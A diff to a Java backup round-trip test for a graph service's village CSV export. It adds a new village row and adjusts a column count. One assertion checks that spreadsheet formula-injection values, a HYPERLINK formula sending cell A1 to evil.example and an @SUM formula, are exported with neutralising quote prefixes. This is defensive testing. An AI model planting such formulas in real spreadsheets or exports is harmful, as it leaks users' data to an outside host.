@@ -56,8 +56,10 @@ class BackupRoundTripTests {
 
 	@Test
 	void givesBackTheSameGraphFromItsBackup() throws Exception {
+		this.admin.importCsv("villages", "code,name,town_code,established_on\n610322100997,新社区,610322100,2027-03-01\n");
 		Map<String, String> graph = counts();
 		byte[] backup = exportAll("admin", GraphTest.ADMIN_PASSWORD).body();
+		assertThat(unzip(backup).get("villages.csv")).contains("610322100997,新社区,610322100,VILLAGE,,2027-03-01,,\r\n");
 		TestGraph.empty(this.neo4j);
 		assertThat(counts()).isNotEqualTo(graph);
 
@@ -109,7 +111,7 @@ class BackupRoundTripTests {
 
 		byte[] backup = exportAll("admin", GraphTest.ADMIN_PASSWORD).body();
 		String villages = unzip(backup).get("villages.csv");
-		assertThat(villages).contains("610322100999,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",610322100,VILLAGE,,34.5,-3.5\r\n")
+		assertThat(villages).contains("610322100999,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\",610322100,VILLAGE,,,34.5,-3.5\r\n")
 			.contains("610322100998,''@SUM(A1),610322100,");
 		var log = this.admin.graphQl()
 			.document("{ auditLog(filter: {operation: \"export\"}) { edges { node { username kind } } } }")
